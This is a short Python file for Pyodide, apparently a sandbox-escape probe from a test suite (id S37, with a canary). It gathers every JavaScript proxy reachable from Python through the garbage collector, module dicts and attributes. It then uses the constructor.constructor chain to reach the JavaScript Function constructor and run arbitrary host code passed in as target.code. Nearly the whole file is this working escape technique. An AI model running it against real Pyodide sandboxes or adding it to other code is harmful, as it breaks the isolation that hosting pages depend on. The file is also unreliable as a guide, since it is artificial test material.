"""Every object of the host that Python holds anywhere.

id: S37
canary: code
"""

import gc
import sys

from pyodide.ffi import JsProxy


def held():
    """All JsProxies in reach, and what hangs on them."""
    things = list(gc.get_objects())
    for module in list(sys.modules.values()):
        things += list(getattr(module, "__dict__", {}).values())
    for thing in list(things):
        slots = getattr(type(thing), "__slots__", None) or ()
        things += [getattr(thing, slot, None) for slot in slots if isinstance(slot, str)]
    seen = [thing for thing in things if isinstance(thing, JsProxy)]
    for proxy in list(seen):
        for attribute in dir(proxy):
            try:
                seen.append(getattr(proxy, attribute))
            except Exception:
                pass
    return seen


def attack(target):
    for thing in held():
        try:
            return thing.constructor.constructor(f"return {target.code}")()
        except Exception:
            pass
    return "nothing"
